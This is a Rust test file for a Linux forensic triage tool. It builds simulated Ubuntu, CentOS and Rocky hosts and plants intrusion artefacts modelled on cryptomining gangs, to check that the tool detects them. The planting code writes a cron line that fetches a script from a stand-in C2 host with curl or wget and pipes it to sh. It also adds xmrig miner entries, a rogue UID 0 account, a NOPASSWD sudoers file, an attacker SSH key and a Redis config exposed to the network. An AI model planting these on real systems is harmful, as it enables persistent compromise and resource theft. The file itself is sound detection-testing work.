//! Planted compromises, built the way an evaluator would build them: a Debian/Ubuntu tree and
//! rpm trees (CentOS 7, Rocky 9) holding what public incident reports of Kinsing/H2Miner,
//! TeamTNT, WatchDog, 8220 Gang, Outlaw and Mirai describe, with log lines in the exact formats
//! those distributions write. `triage_root` must report every planted item (each with the
//! finding id and subject that names it), and the clean tree of the same shape must give no
//! finding at or above medium.
//!
//! `FERRET_PLANTED_KEEP=DIR` keeps the roots under `DIR` (for `triage --root DIR/NAME --json`).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::too_many_lines
)]

use ferret::core::{Control, HostRoot, Severity};
use ferret::triage::{triage_root, TriageOptions};
use ferret::Report;
use ferret_testkit::logins::Rec;
use md5::Digest as _;
use std::fmt::Write as _;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn write(root: &Path, rel: &str, content: impl AsRef<[u8]>) {
    let p = root.join(rel.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
}

fn append(root: &Path, rel: &str, content: &str) {
    let p = root.join(rel.trim_start_matches('/'));
    let mut f = std::fs::OpenOptions::new().append(true).open(p).unwrap();
    f.write_all(content.as_bytes()).unwrap();
}

fn chmod(root: &Path, rel: &str, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        root.join(rel.trim_start_matches('/')),
        std::fs::Permissions::from_mode(mode),
    )
    .unwrap();
}

fn hex(b: &[u8]) -> String {
    b.iter().fold(String::new(), |mut s, x| {
        let _ = write!(s, "{x:02x}");
        s
    })
}

fn b64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for c in data.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                s.push(A[(n >> (18 - 6 * i)) as usize & 63] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

/// An `ssh-ed25519` public key line with a key made of `seed`.
fn ed25519_key(seed: u8, comment: &str) -> String {
    let mut blob = Vec::new();
    blob.extend_from_slice(&11u32.to_be_bytes());
    blob.extend_from_slice(b"ssh-ed25519");
    blob.extend_from_slice(&32u32.to_be_bytes());
    blob.extend((0..32u8).map(|i| i.wrapping_mul(seed).wrapping_add(seed)));
    format!("ssh-ed25519 {} {comment}\n", b64(&blob))
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Distro {
    /// Ubuntu 24.04: rsyslog with high-precision RFC 3339 stamps, auth.log, syslog, kern.log,
    /// a rotated auth.log.1 in RFC 3164 (no year) from before the switch, and the journal.
    Ubuntu,
    /// CentOS 7: /var/log/secure, messages, cron in RFC 3164, rpm's Berkeley DB (here whatever
    /// Debian's rpm writes), OpenSSH 7.4 wording.
    Centos7,
    /// Rocky 9: the same files, OpenSSH 8.7 and shadow-utils 4.9 wording (`from=` in useradd).
    Rocky9,
}

impl Distro {
    fn rpm(self) -> bool {
        self != Distro::Ubuntu
    }
    fn host(self) -> &'static str {
        match self {
            Distro::Ubuntu => "web-ubuntu",
            Distro::Centos7 => "iZbp1centos7Z",
            Distro::Rocky9 => "rocky9-app",
        }
    }
}

/// 2026-12-06T02:00:00Z: the attack starts (10:00 in Shanghai, the hosts' zone).
const T0: i64 = 1_796_522_400;
/// The administrator's routine login, five days earlier.
const ADMIN_LOGIN: i64 = T0 - 5 * 86_400;
const ATTACKER: &str = "203.0.113.50";
const ADMIN_IP: &str = "198.51.100.7";
const C2: &str = "203.0.113.66";
const WALLET: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
const HIDDEN: &str = "/tmp/.X25-unix/.rsync/c";
const PRELOAD_LIB: &str = "/usr/local/lib/.libnetd.so";
const KO: &str = "/usr/local/lib/diamorphine.ko";

/// `sec` (UTC) as the host writes it in each format, in Shanghai time (+08:00).
fn rfc3339(sec: i64, micros: u32) -> String {
    let (y, mo, d, h, mi, s) = civil(sec + 8 * 3600);
    format!("{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{micros:06}+08:00")
}

fn rfc3164(sec: i64) -> String {
    const M: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let (_, mo, d, h, mi, s) = civil(sec + 8 * 3600);
    format!("{} {d:>2} {h:02}:{mi:02}:{s:02}", M[mo as usize - 1])
}

/// The civil UTC date and time of `sec` (ferret-core's calendar).
fn civil(sec: i64) -> (i64, i64, i64, i64, i64, i64) {
    let (y, m, d) = ferret::core::civil::civil_from_days(sec.div_euclid(86_400));
    let rem = sec.rem_euclid(86_400);
    (y, m.into(), d.into(), rem / 3600, rem % 3600 / 60, rem % 60)
}

/// One syslog line of `prog` at `sec` in the distribution's format.
fn line(d: Distro, sec: i64, prog: &str, msg: &str) -> String {
    let stamp = match d {
        Distro::Ubuntu => rfc3339(sec, (sec % 1_000_000) as u32),
        _ => rfc3164(sec),
    };
    format!("{stamp} {} {prog}: {msg}\n", d.host())
}

thread_local! {
    /// The auth log's events as (time, program[pid], message), for the journal that holds
    /// the same messages (rsyslog and journald both write them).
    static AUTH: std::cell::RefCell<Vec<(i64, String, String)>> = const { std::cell::RefCell::new(Vec::new()) };
}

/// [`line`] of the auth log, also recorded for the journal.
fn auth_line(d: Distro, sec: i64, prog: &str, msg: &str) -> String {
    AUTH.with(|a| a.borrow_mut().push((sec, prog.to_owned(), msg.to_owned())));
    line(d, sec, prog, msg)
}

const ELF_PS: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0 procps-ng ps as packaged\n";
const ELF_LS: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0 coreutils ls as packaged\n";

const RPM_SPEC: &str = r"Name: procps-ng
Version: 3.3.17
Release: 14.el9
Summary: ferret planted-root package
License: GPL
BuildArch: noarch
%description
The system's ps, top and ls, for rpm -Va.
%package -n coreutils
Summary: ferret planted-root package
%description -n coreutils
ls.
%package -n bash
Summary: ferret planted-root package
%description -n bash
bash.
%package -n util-linux
Summary: ferret planted-root package
%description -n util-linux
nologin.
%package -n iputils
Summary: ferret planted-root package
%description -n iputils
ping, with the capabilities CentOS 7 and Rocky 8 give it.
%package -n shadow-utils
Summary: ferret planted-root package
%description -n shadow-utils
newuidmap, with the capability Rocky gives it.
%package -n python3
Summary: ferret planted-root package
%description -n python3
python3.
%install
mkdir -p %{buildroot}/usr/bin
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 procps-ng ps as packaged\n' > %{buildroot}/usr/bin/ps
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 procps-ng top\n' > %{buildroot}/usr/bin/top
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 coreutils ls as packaged\n' > %{buildroot}/usr/bin/ls
mkdir -p %{buildroot}/usr/sbin
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 bash\n' > %{buildroot}/usr/bin/bash
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 nologin\n' > %{buildroot}/usr/sbin/nologin
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 ping\n' > %{buildroot}/usr/bin/ping
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 newuidmap\n' > %{buildroot}/usr/bin/newuidmap
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 python3\n' > %{buildroot}/usr/bin/python3
%files
%attr(0755,root,root) /usr/bin/ps
%attr(0755,root,root) /usr/bin/top
%files -n coreutils
%attr(0755,root,root) /usr/bin/ls
%files -n bash
%attr(0755,root,root) /usr/bin/bash
%files -n util-linux
%attr(0755,root,root) /usr/sbin/nologin
%files -n iputils
%attr(0755,root,root) %caps(cap_net_admin,cap_net_raw=p) /usr/bin/ping
%files -n shadow-utils
%attr(0755,root,root) %caps(cap_setuid=ep) /usr/bin/newuidmap
%files -n python3
%attr(0755,root,root) /usr/bin/python3
";

/// The clean host: accounts with shadow's backups, sshd, cron, a package database owning
/// `ps` and `ls`, an administrator's logins in the logs and in wtmp/lastlog.
/// The exposure-relevant directives of the redis.conf the packages ship (Redis 7's default).
const REDIS_STOCK: &str = "bind 127.0.0.1 -::1\nprotected-mode yes\nport 6379\ndaemonize no\ndir /var/lib/redis\ndbfilename dump.rdb\n";

fn clean(d: Distro, root: &Path, work: &Path) {
    for dir in ["usr/bin", "usr/sbin", "usr/lib", "usr/lib64"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    // A BT-Panel site (nginx names its root): its front controller and BT-Panel's .user.ini.
    write(
        root,
        "www/server/panel/vhost/nginx/site.conf",
        "server {\n    listen 80;\n    server_name site.example;\n    root /www/wwwroot/site;\n}\n",
    );
    write(
        root,
        "www/wwwroot/site/index.php",
        "<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$app = require __DIR__ . '/app.php';\n$app->run(isset($_GET['s']) ? $_GET['s'] : '/');\n",
    );
    write(
        root,
        "www/wwwroot/site/.user.ini",
        "open_basedir=/www/wwwroot/site/:/tmp/\n",
    );
    // Stock service configurations (the directives that decide exposure): Redis on loopback
    // where the rpm distributions put redis.conf; on Ubuntu, Docker's units as docker.io
    // ships them and an ordinary web container.
    match d {
        Distro::Centos7 => write(root, "etc/redis.conf", REDIS_STOCK),
        Distro::Rocky9 => write(root, "etc/redis/redis.conf", REDIS_STOCK),
        Distro::Ubuntu => {
            write(root, "usr/lib/systemd/system/docker.service", "[Service]\nType=notify\nEnvironmentFile=-/etc/default/docker\nExecStart=/usr/sbin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock $DOCKER_OPTS\n");
            write(root, "usr/lib/systemd/system/docker.socket", "[Socket]\nListenStream=/run/docker.sock\nSocketMode=0660\nSocketUser=root\nSocketGroup=docker\n");
            write(
                root,
                "var/lib/docker/containers/5e0c1a/config.v2.json",
                r#"{"ID":"5e0c1a","Name":"/web","Config":{"Image":"nginx:1.25","Entrypoint":["/docker-entrypoint.sh"],"Cmd":["nginx","-g","daemon off;"]}}"#,
            );
            write(
                root,
                "var/lib/docker/containers/5e0c1a/hostconfig.json",
                r#"{"Binds":["/srv/www:/usr/share/nginx/html:ro"],"Privileged":false,"NetworkMode":"bridge","RestartPolicy":{"Name":"unless-stopped"}}"#,
            );
        }
    }
    for (link, to) in [
        ("bin", "usr/bin"),
        ("sbin", "usr/sbin"),
        ("lib", "usr/lib"),
        ("lib64", "usr/lib64"),
    ] {
        std::os::unix::fs::symlink(to, root.join(link)).unwrap();
    }
    let (admin, admin_group, os_release) = match d {
        Distro::Ubuntu => (
            "ubuntu",
            "sudo",
            "PRETTY_NAME=\"Ubuntu 24.04.1 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"24.04\"\nID=ubuntu\nID_LIKE=debian\n",
        ),
        Distro::Centos7 => (
            "centos",
            "wheel",
            "NAME=\"CentOS Linux\"\nVERSION=\"7 (Core)\"\nID=\"centos\"\nID_LIKE=\"rhel fedora\"\nVERSION_ID=\"7\"\nPRETTY_NAME=\"CentOS Linux 7 (Core)\"\n",
        ),
        Distro::Rocky9 => (
            "rocky",
            "wheel",
            "NAME=\"Rocky Linux\"\nVERSION=\"9.4 (Blue Onyx)\"\nID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\nVERSION_ID=\"9.4\"\nPRETTY_NAME=\"Rocky Linux 9.4 (Blue Onyx)\"\n",
        ),
    };
    write(root, "etc/os-release", os_release);

    write(root, "etc/hostname", format!("{}\n", d.host()));
    if let Ok(tz) = std::fs::read("/usr/share/zoneinfo/Asia/Shanghai") {
        write(root, "etc/localtime", tz);
    }
    let nologin = if d.rpm() {
        "/sbin/nologin"
    } else {
        "/usr/sbin/nologin"
    };
    let sshd_home = if d.rpm() {
        "/var/empty/sshd"
    } else {
        "/run/sshd"
    };
    write(
        root,
        "etc/passwd",
        format!(
            "root:x:0:0:root:/root:/bin/bash\n\
             daemon:x:2:2:daemon:/sbin:{nologin}\n\
             sshd:x:74:74:Privilege-separated SSH:{sshd_home}:{nologin}\n\
             {admin}:x:1000:1000::/home/{admin}:/bin/bash\n"
        ),
    );
    let hash = |salt: &str| {
        format!("$6${salt}$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./abcdefghijklmnopqrstuv")
    };
    write(
        root,
        "etc/shadow",
        format!(
            "root:{}:20400:0:99999:7:::\ndaemon:*:20400:0:99999:7:::\nsshd:!!:20400::::::\n{admin}:{}:20400:0:99999:7:::\n",
            hash("rootsalt"),
            hash("adminsalt")
        ),
    );
    write(
        root,
        "etc/group",
        format!(
            "root:x:0:\ndaemon:x:2:\n{admin_group}:x:10:{admin}\nsshd:x:74:\n{admin}:x:1000:\n"
        ),
    );
    write(
        root,
        "etc/gshadow",
        if d.rpm() {
            // What RHEL's groupadd writes: empty group passwords.
            format!("root:::\ndaemon:::\n{admin_group}:::{admin}\nsshd:!::\n{admin}:!!::\n")
        } else {
            format!("root:*::\ndaemon:*::\n{admin_group}:*::{admin}\nsshd:!::\n{admin}:!::\n")
        },
    );
    for f in ["passwd", "shadow", "group", "gshadow"] {
        std::fs::copy(
            root.join("etc").join(f),
            root.join("etc").join(format!("{f}-")),
        )
        .unwrap();
    }
    for f in ["etc/shadow", "etc/shadow-", "etc/gshadow", "etc/gshadow-"] {
        chmod(root, f, if d.rpm() { 0o000 } else { 0o640 });
    }
    write(
        root,
        "etc/login.defs",
        "UID_MIN 1000\nUID_MAX 60000\nSYS_UID_MAX 999\nENCRYPT_METHOD SHA512\n",
    );
    write(
        root,
        "etc/sudoers",
        format!(
            "Defaults env_reset\nDefaults secure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\n\
             root ALL=(ALL:ALL) ALL\n%{admin_group} ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n"
        ),
    );
    chmod(root, "etc/sudoers", 0o440);
    std::fs::create_dir_all(root.join("etc/sudoers.d")).unwrap();
    std::fs::create_dir_all(root.join("root/.ssh")).unwrap();
    chmod(root, "root", 0o550);
    write(
        root,
        &format!("home/{admin}/.ssh/authorized_keys"),
        ed25519_key(7, &format!("{admin}@laptop")),
    );
    chmod(root, &format!("home/{admin}/.ssh/authorized_keys"), 0o600);
    chmod(root, &format!("home/{admin}/.ssh"), 0o700);
    write(
        root,
        &format!("home/{admin}/.bashrc"),
        "# ~/.bashrc\n[ -z \"$PS1\" ] && return\nHISTCONTROL=ignoreboth\nHISTSIZE=1000\nalias ll='ls -l'\n",
    );
    write(
        root,
        &format!("home/{admin}/.bash_history"),
        "sudo apt-get update\nls -la\ntail -f /var/log/nginx/access.log\nexit\n",
    );
    std::os::unix::fs::chown(root.join(format!("home/{admin}")), Some(1000), Some(1000)).ok();
    for f in [".ssh", ".ssh/authorized_keys", ".bashrc", ".bash_history"] {
        std::os::unix::fs::lchown(
            root.join(format!("home/{admin}/{f}")),
            Some(1000),
            Some(1000),
        )
        .ok();
    }
    write(root, "root/.bash_history", "systemctl status sshd\nexit\n");
    chmod(root, "root/.bash_history", 0o600);
    write(root, "root/.bashrc", "alias rm='rm -i'\n");
    std::fs::create_dir_all(root.join(sshd_home.trim_start_matches('/'))).unwrap();
    let sftp = if d.rpm() {
        "/usr/libexec/openssh/sftp-server"
    } else {
        "/usr/lib/openssh/sftp-server"
    };
    write(
        root,
        "etc/ssh/sshd_config",
        format!(
            "Include /etc/ssh/sshd_config.d/*.conf\n\
             PermitRootLogin no\n\
             PasswordAuthentication no\n\
             KbdInteractiveAuthentication no\n\
             ChallengeResponseAuthentication no\n\
             PermitEmptyPasswords no\n\
             UsePAM yes\n\
             X11Forwarding no\n\
             AllowTcpForwarding no\n\
             AllowAgentForwarding no\n\
             MaxAuthTries 3\n\
             ClientAliveInterval 300\n\
             ClientAliveCountMax 2\n\
             LogLevel VERBOSE\n\
             Subsystem sftp {sftp}\n"
        ),
    );
    std::fs::create_dir_all(root.join("etc/ssh/sshd_config.d")).unwrap();
    // The distribution's PAM stacks for sshd.
    if d.rpm() {
        write(
            root,
            "etc/pam.d/sshd",
            "#%PAM-1.0\nauth       substack     password-auth\nauth       include      postlogin\naccount    required     pam_sepermit.so\naccount    required     pam_nologin.so\naccount    include      password-auth\nsession    include      password-auth\n",
        );
        write(
            root,
            "etc/pam.d/password-auth",
            "auth        required      pam_env.so\nauth        required      pam_faildelay.so delay=2000000\nauth        sufficient    pam_unix.so nullok\nauth        required      pam_deny.so\naccount     required      pam_unix.so\npassword    sufficient    pam_unix.so sha512 shadow nullok use_authtok\nsession     required      pam_unix.so\n",
        );
    } else {
        write(
            root,
            "etc/pam.d/sshd",
            "@include common-auth\naccount    required     pam_nologin.so\n@include common-account\nsession    required     pam_loginuid.so\n",
        );
        write(
            root,
            "etc/pam.d/common-auth",
            "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n",
        );
    }
    write(
        root,
        "etc/hosts",
        format!(
            "127.0.0.1   localhost localhost.localdomain\n::1         localhost6\n172.16.0.10 {}\n",
            d.host()
        ),
    );
    write(
        root,
        "etc/resolv.conf",
        "nameserver 100.100.2.136\nnameserver 100.100.2.138\n",
    );
    write(
        root,
        "etc/crontab",
        "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n",
    );
    let logrotate = if d.rpm() {
        "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n"
    } else {
        "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"
    };
    write(root, "etc/cron.d/0hourly", logrotate);
    std::fs::create_dir_all(root.join("etc/systemd/system/multi-user.target.wants")).unwrap();
    std::fs::create_dir_all(root.join("tmp/.X11-unix")).unwrap();
    chmod(root, "tmp", 0o1777);
    chmod(root, "tmp/.X11-unix", 0o1777);
    std::fs::create_dir_all(root.join("var/tmp")).unwrap();
    chmod(root, "var/tmp", 0o1777);

    // setuptools' stock .pth (its import line runs at every Python start) and a stock
    // maintainer script.
    write(
        root,
        &format!("{}/distutils-precedence.pth", python_site(d)),
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    );
    if !d.rpm() {
        write(root, "var/lib/dpkg/info/openssh-server.postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n\tif ! getent passwd sshd >/dev/null; then\n\t\tadduser --quiet --system --no-create-home --home /run/sshd --shell /usr/sbin/nologin sshd\n\tfi\n\tdeb-systemd-helper unmask 'ssh.service' >/dev/null || true\nfi\nexit 0\n");
    }

    // The package database: ps, top and ls as packaged.
    if d.rpm() {
        ferret_testkit::rpm::install(work, root, RPM_SPEC);
    } else {
        write(root, "usr/bin/ps", ELF_PS);
        write(root, "usr/bin/ls", ELF_LS);
        chmod(root, "usr/bin/ps", 0o755);
        chmod(root, "usr/bin/ls", 0o755);
        let md5 = |b: &[u8]| hex(&md5::Md5::digest(b));
        write(
            root,
            "var/lib/dpkg/info/procps.md5sums",
            format!("{}  usr/bin/ps\n", md5(ELF_PS)),
        );
        write(root, "var/lib/dpkg/info/procps.list", "/usr/bin/ps\n");
        write(
            root,
            "var/lib/dpkg/info/coreutils.md5sums",
            format!("{}  usr/bin/ls\n", md5(ELF_LS)),
        );
        write(root, "var/lib/dpkg/info/coreutils.list", "/usr/bin/ls\n");
        for (pkg, file, body) in [
            ("bash", "usr/bin/bash", &b"\x7fELF bash\n"[..]),
            ("login", "usr/sbin/nologin", &b"\x7fELF nologin\n"[..]),
            ("iputils-ping", "usr/bin/ping", &b"\x7fELF ping\n"[..]),
            (
                "python3.12-minimal",
                "usr/bin/python3",
                &b"\x7fELF python3\n"[..],
            ),
        ] {
            write(root, file, body);
            chmod(root, file, 0o755);
            write(
                root,
                &format!("var/lib/dpkg/info/{pkg}.md5sums"),
                format!("{}  {file}\n", md5(body)),
            );
            write(
                root,
                &format!("var/lib/dpkg/info/{pkg}.list"),
                format!("/{file}\n"),
            );
        }
        write(
            root,
            "var/lib/dpkg/status",
            "Package: procps\nStatus: install ok installed\nVersion: 2:4.0.4-4ubuntu3\nArchitecture: amd64\n\n\
             Package: coreutils\nStatus: install ok installed\nVersion: 9.4-3ubuntu6\nArchitecture: amd64\n\n\
             Package: bash\nStatus: install ok installed\nVersion: 5.2.21-2ubuntu4\nArchitecture: amd64\n\n\
             Package: login\nStatus: install ok installed\nVersion: 1:4.13+dfsg1-4ubuntu3\nArchitecture: amd64\n\n\
             Package: iputils-ping\nStatus: install ok installed\nVersion: 3:20240117-1build1\nArchitecture: amd64\n\n\
             Package: python3.12-minimal\nStatus: install ok installed\nVersion: 3.12.3-1ubuntu0.1\nArchitecture: amd64\n\n",
        );
        // Ubuntu's ping carries cap_net_raw (set by the package's postinst, which dpkg does
        // not record): stays quiet. (The rpm trees get theirs from the spec's %caps.)
        if !setcap(root, "usr/bin/ping", "cap_net_raw+ep") {
            eprintln!("note: setcap does not work here: no stock capability in the clean tree");
        }
    }

    // The administrator's routine login, in the logs and in wtmp/lastlog.
    let port = 50_111;
    let (auth, sys, kern, cron) = log_names(d);
    let mut a = String::new();
    a += &auth_line(
        d,
        ADMIN_LOGIN,
        "sshd[1001]",
        &format!("Accepted publickey for {admin} from {ADMIN_IP} port {port} ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"),
    );
    a += &auth_line(
        d,
        ADMIN_LOGIN,
        "sshd[1001]",
        &format!("pam_unix(sshd:session): session opened for user {admin}(uid=1000) by (uid=0)"),
    );
    a += &auth_line(
        d,
        ADMIN_LOGIN + 60,
        "sudo",
        &format!("  {admin} : TTY=pts/0 ; PWD=/home/{admin} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"),
    );
    a += &auth_line(
        d,
        ADMIN_LOGIN + 1800,
        "sshd[1001]",
        &format!("pam_unix(sshd:session): session closed for user {admin}"),
    );
    write(root, auth, a);
    write(
        root,
        sys,
        line(
            d,
            ADMIN_LOGIN - 86_400,
            "systemd[1]",
            "Started Daily apt download activities.",
        ),
    );
    write(
        root,
        kern,
        line(
            d,
            ADMIN_LOGIN - 86_400,
            "kernel",
            "[    0.000000] Linux version 5.14.0-427.13.1.el9_4.x86_64",
        ),
    );
    if let Some(cron) = cron {
        write(
            root,
            cron,
            line(
                d,
                ADMIN_LOGIN - 3600,
                "CROND[900]",
                "(root) CMD (run-parts /etc/cron.hourly)",
            ),
        );
    }
    if d.rpm() {
        write(
            root,
            "var/log/audit/audit.log",
            format!(
                "type=USER_LOGIN msg=audit({ADMIN_LOGIN}.123:210): pid=1001 uid=0 auid=1000 ses=3 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr={ADMIN_IP} terminal=ssh res=success'\n"
            ),
        );
    }
    let wtmp = vec![
        Rec::boot(ADMIN_LOGIN - 86_400),
        Rec::login(admin.as_bytes(), "pts/0", ADMIN_IP, 1002, ADMIN_LOGIN),
        Rec::logout("pts/0", 1002, ADMIN_LOGIN + 1800),
    ];
    write(root, "var/log/wtmp", ferret_testkit::logins::binary(&wtmp));
    write(root, "var/log/btmp", b"");
    chmod(root, "var/log/btmp", 0o600);
    let mut lastlog = vec![0u8; 292 * 1001];
    lastlog[292 * 1000..292 * 1000 + 4].copy_from_slice(&(ADMIN_LOGIN as i32).to_le_bytes());
    lastlog[292 * 1000 + 4..292 * 1000 + 9].copy_from_slice(b"pts/0");
    lastlog[292 * 1000 + 36..292 * 1000 + 36 + ADMIN_IP.len()].copy_from_slice(ADMIN_IP.as_bytes());
    write(root, "var/log/lastlog", lastlog);

    // Stock hook places (init scripts, package manager hooks and plugins, motd, network
    // hooks, modules loaded at boot): quiet on a clean host.
    if d.rpm() {
        write(
            root,
            "etc/rc.d/init.d/functions",
            "# -*-Shell-script-*-\nTEXTDOMAIN=initscripts\numask 022\nPATH=\"/sbin:/usr/sbin:/bin:/usr/bin\"\nexport PATH\n__pids_var_run() {\n    local base=${1##*/}\n    local pid_file=${2:-/var/run/$base.pid}\n}\n",
        );
        std::os::unix::fs::symlink("rc.d/init.d", root.join("etc/init.d")).unwrap();
        let (dir, conf) = if d == Distro::Centos7 {
            ("etc/yum/pluginconf.d", "fastestmirror.conf")
        } else {
            ("etc/dnf/plugins", "copr.conf")
        };
        write(root, &format!("{dir}/{conf}"), "[main]\nenabled=1\n");
        write(
            root,
            "etc/NetworkManager/dispatcher.d/11-dhclient",
            "#!/bin/bash\n# run dhclient.d scripts in an emulated environment\nPATH=/bin:/usr/bin:/sbin\nSAVEDIR=/var/lib/dhclient\ninterface=$1\n",
        );
        write(
            root,
            "usr/lib/modprobe.d/firewalld-sysctls.conf",
            "install nf_conntrack /usr/sbin/modprobe --ignore-install nf_conntrack $CMDLINE_OPTS && /usr/sbin/sysctl --quiet --pattern 'net[.]netfilter[.]nf_conntrack.*' --system\n",
        );
    } else {
        write(
            root,
            "etc/init.d/ssh",
            "#! /bin/sh\nset -e\ntest -x /usr/sbin/sshd || exit 0\n. /lib/lsb/init-functions\ncase \"$1\" in\n  start)\n\tstart-stop-daemon --start --quiet --oknodo --chuid 0:0 --pidfile /run/sshd.pid --exec /usr/sbin/sshd -- $SSHD_OPTS\n\t;;\nesac\n",
        );
        std::fs::create_dir_all(root.join("etc/rc2.d")).unwrap();
        std::os::unix::fs::symlink("../init.d/ssh", root.join("etc/rc2.d/S01ssh")).unwrap();
        write(
            root,
            "etc/apt/apt.conf.d/70debconf",
            "DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n",
        );
        write(
            root,
            "etc/update-motd.d/91-release-upgrade",
            "#!/bin/sh\nif [ -x /usr/lib/ubuntu-release-upgrader/release-upgrade-motd ]; then\n    exec /usr/lib/ubuntu-release-upgrader/release-upgrade-motd\nfi\n",
        );
        write(
            root,
            "etc/modules",
            "# /etc/modules: kernel modules to load at boot time.\n",
        );
        std::fs::create_dir_all(root.join("etc/modules-load.d")).unwrap();
        std::os::unix::fs::symlink("../modules", root.join("etc/modules-load.d/modules.conf"))
            .unwrap();
    }
}

/// (auth log, syslog, kernel log, cron log) of the distribution.
fn log_names(
    d: Distro,
) -> (
    &'static str,
    &'static str,
    &'static str,
    Option<&'static str>,
) {
    if d.rpm() {
        (
            "var/log/secure",
            "var/log/messages",
            "var/log/dmesg",
            Some("var/log/cron"),
        )
    } else {
        (
            "var/log/auth.log",
            "var/log/syslog",
            "var/log/kern.log",
            None,
        )
    }
}

/// What an intruder left, per the public reports (each line names its source).
fn plant(d: Distro, root: &Path) {
    let admin = match d {
        Distro::Ubuntu => "ubuntu",
        Distro::Centos7 => "centos",
        Distro::Rocky9 => "rocky",
    };
    // Accounts: a second UID 0 account (Outlaw/TeamTNT `useradd -o -u 0`), an account with an
    // empty password (WatchDog), a NOPASSWD ALL sudoers.d file (TeamTNT's `hilde`).
    append(root, "etc/passwd", "hilde:x:0:0::/root:/bin/bash\nsystemd-network2:x:1001:1001::/home/systemd-network2:/bin/bash\n");
    append(root, "etc/shadow", "hilde:$6$hs$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./abcdefghijklmnopqrstuv:20428:0:99999:7:::\nsystemd-network2::20428:0:99999:7:::\n");
    append(root, "etc/group", "systemd-network2:x:1001:\n");
    append(root, "etc/gshadow", "systemd-network2:!::\n");
    std::fs::create_dir_all(root.join("home/systemd-network2")).unwrap();
    write(
        root,
        "etc/sudoers.d/hilde",
        "hilde ALL=(ALL) NOPASSWD: ALL\n",
    );
    chmod(root, "etc/sudoers.d/hilde", 0o440);

    // The attacker's key in root's authorized_keys (Outlaw's `mdrfckr`), made immutable.
    write(
        root,
        "root/.ssh/authorized_keys",
        ed25519_key(91, "mdrfckr"),
    );
    chmod(root, "root/.ssh/authorized_keys", 0o600);

    // Cron: download and execute in /etc/cron.d (Kinsing, 8220 Gang) and the user crontab
    // (rpm: /var/spool/cron/root; Debian: /var/spool/cron/crontabs/root).
    let cron_line = format!(
        "*/10 * * * * root (curl -fsSL http://{C2}/cr.sh||wget -q -O- http://{C2}/cr.sh)|sh\n"
    );
    write(root, "etc/cron.d/apache", &cron_line);
    let spool = if d.rpm() {
        "var/spool/cron/root"
    } else {
        "var/spool/cron/crontabs/root"
    };
    let user_cron =
        format!("* * * * * {HIDDEN}/upd >/dev/null 2>&1\n@reboot {HIDDEN}/xmrig --config={HIDDEN}/config.json\n");
    if d.rpm() {
        // On the rpm hosts the way in was Redis, opened to the network with protected mode
        // off (`CONFIG SET dir /var/spool/cron`, `dbfilename root`, `SAVE`): root's crontab is
        // an RDB dump holding the cron lines between binary framing; cronie runs them.
        let conf = if d == Distro::Centos7 {
            "etc/redis.conf"
        } else {
            "etc/redis/redis.conf"
        };
        write(
            root,
            conf,
            REDIS_STOCK
                .replace("bind 127.0.0.1 -::1", "bind 0.0.0.0")
                .replace("protected-mode yes", "protected-mode no"),
        );
        let value = format!("\n\n{user_cron}\n\n");
        write(
            root,
            spool,
